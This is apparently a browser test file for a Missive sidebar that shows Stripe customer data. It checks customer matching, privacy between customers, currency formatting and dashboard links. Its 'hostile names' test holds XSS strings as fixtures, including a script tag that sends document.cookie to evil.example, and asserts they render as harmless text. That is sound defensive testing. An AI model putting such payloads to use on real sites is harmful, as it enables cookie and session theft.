// Shows the right customer beside each conversation, and never another one's data, even with hostile names.

import { describe, expect, test } from 'vitest'
import {
  browserPath,
  did,
  openFolds,
  renewed,
  settled,
  show,
  textOf,
  useWorld,
  world,
  type World,
} from '../../worlds/browser/preview.ts'

const { open, shared, preview } = useWorld()

const customerOf = (address: string, index = 0, where = {}) => {
  const found = preview().simulator.customersOf(address, where)[index]
  if (!found) throw new Error(`No customer ${address}`)
  return found
}

/** The simulated Stripe's requests during an operation. */
async function stripeRequests(act: () => Promise<unknown>): Promise<string[]> {
  const seen: string[] = []
  const stop = preview().simulator.onRequest((line) => seen.push(line.path))
  await act()
  stop()
  return seen
}

/** Presses every link; returns the addresses that Missive was asked to open. */
async function openedLinks({ page, sidebar }: World): Promise<string[]> {
  const frame = await sidebar()
  await openFolds(frame)
  const pressed = await frame.locator('main a[href]').evaluateAll((links) =>
    links.flatMap((link) => {
      if (!(link instanceof HTMLAnchorElement)) return []
      link.click()
      return [link.href]
    }),
  )
  await expect
    .poll(async () => (await did(page, 'openURL')).map(([href]) => new URL(String(href)).href))
    .toEqual(pressed)
  return (await did(page, 'openURL')).map(([href]) => String(href))
}

describe.skipIf(!browserPath)('the right customer', () => {
  test.each([
    ['conv-tomasz', 'tomasz.zielinski@poczta.example', 'Tomasz Zieliński', 'Paying'],
    ['conv-priya', 'priya@brightside.example', 'Brightside Studio Ltd', 'Past due'],
    ['conv-ines', 'ines@cafemarisol.example', 'Café Marisol, Lda.', 'Paying'],
    ['conv-misaki', 'misaki@kissa.example', '田中 美咲 (Misaki Tanaka)', 'Paying'],
    ['conv-noma', 'accounts@noma-foods.example', 'Noma Foods ApS', 'Past due'],
    ['conv-rosa', 'rosa@lindqvist.example', 'Rosa Lindqvist', 'Paid'],
    ['conv-gmail-customer', 'dana.petrov.coffee@gmail.com', 'Dana Petrov', 'Paying'],
  ])('%s shows the customer with the address %s', async (id, address, name, verdict) => {
    const opened = await shared()
    const frame = await show(opened, id)
    expect(await frame.locator('main').getAttribute('data-customer')).toBe(customerOf(address).id)
    expect(await frame.locator('h1').innerText()).toBe(name)
    expect(await frame.locator('.ts-who').innerText()).toContain(address)
    expect(await frame.locator('.ts-verdict-word').innerText()).toContain(verdict)
    expect(opened.trouble).toEqual([])
  })

  test('four customers on one address are offered, and the choice is remembered for the conversation', async () => {
    const opened = await open()
    let frame = await show(opened, 'conv-ostwind', 'chooser')
    const choices = frame.locator('[data-choice]')
    const ids = preview()
      .simulator.customersOf('office@ostwind.example')
      .map(({ id }) => id)
    expect(await choices.count()).toBe(4)
    expect(
      new Set(await choices.evaluateAll((all) => all.map((one) => one.getAttribute('data-choice')))),
    ).toEqual(new Set(ids))
    await choices.filter({ hasText: 'Ostwind Leipzig' }).click()
    await settled(frame, 'panel')
    expect(await frame.locator('h1').innerText()).toBe('Ostwind Leipzig')
    await frame.waitForSelector('[data-pin][aria-pressed="true"]')
    frame = await renewed(opened, () => world(opened.page, 'reloadSidebar'))
    await settled(frame, 'panel')
    expect(await frame.locator('h1').innerText()).toBe('Ostwind Leipzig')
    await frame.locator('[data-pin]').click()
    await settled(frame, 'chooser')
  })

  test('without the tick, a choice is temporary', async () => {
    const opened = await open()
    const frame = await show(opened, 'conv-mixed', 'chooser')
    await frame.getByLabel('Remember my choice').uncheck()
    await frame.locator('[data-choice]').first().click()
    await settled(frame, 'panel')
    const again = await renewed(opened, () => world(opened.page, 'reloadSidebar'))
    await settled(again, 'chooser')
  })

  test('an address with two spellings finds the customers of both', async () => {
    const opened = await shared()
    const frame = await show(opened, 'conv-mixed', 'chooser')
    const found = await frame
      .locator('[data-choice]')
      .evaluateAll((all) => all.map((one) => one.getAttribute('data-choice')))
    const wanted = preview().simulator.customersOf('mira.okafor@roastworks.example')
    expect(new Set(found)).toEqual(new Set(wanted.map(({ id }) => id)))
  })

  test('for a stranger at gmail.com, no other gmail.com customer is shown', async () => {
    const opened = await shared()
    const frame = await show(opened, 'conv-gmail', 'not-found')
    expect(await frame.locator('[data-choice]').count()).toBe(0)
    expect(await textOf(frame)).not.toMatch(/Dana|Petrov|Not verified/)
    expect(await textOf(frame)).toContain('No Stripe customer has exactly this address')
  })

  test('a customer with the same domain is offered as not verified', async () => {
    const frame = await show(await shared(), 'conv-lena', 'not-found')
    expect(await frame.locator('[data-choice]').innerText()).toMatch(/Köhler Rösterei OHG\s+Not verified/i)
  })

  test('a conversation among teammates sends no request to Stripe', async () => {
    const opened = await shared()
    const requests = await stripeRequests(async () => {
      const frame = await show(opened, 'conv-team', 'empty')
      await frame.waitForSelector('text=Only teammates')
    })
    expect(requests).toEqual([])
  })

  test('a phone conversation sends no request to Stripe', async () => {
    const opened = await shared()
    const requests = await stripeRequests(async () => {
      const frame = await show(opened, 'conv-phone', 'empty')
      await frame.waitForSelector('text=Only a phone number')
    })
    expect(requests).toEqual([])
  })

  test('the bar lists the people in the conversation, without teammates and our own inbox', async () => {
    const opened = await shared()
    const frame = await show(opened, 'conv-several')
    expect(await frame.locator('h1').innerText()).toBe('Café Marisol, Lda.')
    const bar = await frame.locator('.ts-bar').innerText()
    expect(bar).toMatch(/Ines Duarte/)
    expect(bar).not.toMatch(/Jonas|Kelpie/)
    await frame.locator('[data-person="priya@brightside.example"]').click()
    await frame.waitForSelector('h1 >> text=Brightside Studio Ltd')
    await settled(frame, 'panel')
    expect(await frame.locator('main').getAttribute('data-customer')).toBe(
      customerOf('priya@brightside.example').id,
    )
  })
})

describe.skipIf(!browserPath)('amounts', () => {
  test('yen have no decimals, dinars three and euros two, in the reader’s format', async () => {
    const english = await textOf(await show(await open(), 'conv-misaki'))
    for (const amount of ['¥5,000 / month', '¥165,000', 'KWD 12.345', '€1,234.56'])
      expect(english).toContain(amount)
    const opened = await open({ locale: 'de-DE' })
    const frame = await opened.sidebar()
    await world(opened.page, 'select', ['conv-misaki'])
    await settled(frame, 'panel')
    const german = await textOf(frame)
    for (const amount of ['5.000 ¥', '165.000 ¥', '12,345 KWD', '1.234,56 €'])
      expect(german).toContain(amount)
  })
})

describe.skipIf(!browserPath)('hostile names', () => {
  test('markup in names stays text: nothing runs and no element is created', async () => {
    const opened = await open()
    const frame = await show(opened, 'conv-markup')
    await openFolds(frame)
    expect(await frame.locator('h1').textContent()).toContain('"onmouseover="alert(1) Wolfeschlegel')
    expect(await textOf(frame)).toContain('<img src=x onerror=alert(1)>')
    expect(await frame.locator('main').textContent()).toContain(
      "<script>fetch('//evil.example/'+document.cookie)</script>",
    )
    expect(
      await frame.locator('main :is(img, script, iframe, object, embed, [onmouseover], [onerror])').count(),
    ).toBe(0)
    await frame.locator('h1').hover()
    expect(opened.trouble).toEqual([])
    expect(opened.page.frames()).toHaveLength(2)
  })

  test('direction overrides and invisible characters are removed, with a warning', async () => {
    const opened = await shared()
    const frame = await show(opened, 'conv-direction', 'not-found')
    const html = await frame.locator('main').innerHTML()
    expect(html).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/)
    expect(await textOf(frame)).toContain('Tomasz Zieliński elpmaxe.atzcop@ikslneiz.zsamot')
    expect(await textOf(frame)).toMatch(/hidden characters were removed/i)
  })

  test.each(['conv-long', 'conv-quotes'])('%s finds no customer and does not break the page', async (id) => {
    const opened = await shared()
    const frame = await show(opened, id, 'not-found')
    expect(await frame.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(
      0,
    )
    expect(opened.trouble).toEqual([])
  })
})

describe.skipIf(!browserPath)('accounts and modes', () => {
  test('a customer in two accounts is two choices, each of which opens in its own account', async () => {
    const opened = await open()
    const frame = await show(opened, 'conv-two-accounts', 'chooser')
    await frame.locator('[data-choice]').filter({ hasText: 'Roasters Inc.' }).click()
    await settled(frame, 'panel')
    const links = (await openedLinks(opened)).filter((link) => link.includes('dashboard.stripe.com'))
    expect(links.length).toBeGreaterThan(0)
    // The parcel's address comes from an in-house panel.
    for (const link of links.filter((one) => !one.startsWith('https://track.example/')))
      expect(link).toMatch(/^https:\/\/dashboard\.stripe\.com\/acct_1KelpieCoffeeUS0\/(?!test)/)
    await frame.waitForSelector('.ts-foot >> text=Kelpie Coffee US')
  })

  test('links point to the object itself, in the live mode of its account', async () => {
    const opened = await open()
    await show(opened, 'conv-tomasz')
    const links = await openedLinks(opened)
    const { id } = customerOf('tomasz.zielinski@poczta.example')
    expect(links).toContain(`https://dashboard.stripe.com/acct_1KelpieCoffeeEU0/customers/${id}`)
    expect(links.some((link) => link.includes('/disputes/du_'))).toBe(true)
    expect(links.some((link) => link.includes('/subscriptions/sub_'))).toBe(true)
    // The parcel's address comes from an in-house panel.
    for (const link of links.filter((one) => !one.startsWith('https://track.example/')))
      expect(link).toMatch(
        /^https:\/\/(dashboard\.stripe\.com\/acct_1KelpieCoffeeEU0\/(?!test)|invoice\.stripe\.com\/|pay\.stripe\.com\/)/,
      )
  })

  test('test mode is labelled and opens the test data', async () => {
    const opened = await open()
    await opened.sidebar()
    const frame = await renewed(opened, () => world(opened.page, 'setMode', 'test'))
    await world(opened.page, 'select', ['conv-trial'])
    await frame.waitForSelector(
      '[data-state="panel"]:not([data-busy]), [data-state="chooser"]:not([data-busy])',
    )
    if ((await frame.locator('[data-choice]').count()) > 0)
      await frame.locator('[data-choice]').first().click()
    await settled(frame, 'panel')
    expect(await frame.locator('.ts-foot .ts-test').innerText()).toBe('TEST')
    const links = (await openedLinks(opened)).filter((link) => link.includes('dashboard.stripe.com'))
    expect(links.length).toBeGreaterThan(0)
    for (const link of links)
      expect(link).toMatch(/^https:\/\/dashboard\.stripe\.com\/acct_1KelpieCoffeeEU0\/test\//)
  })
})
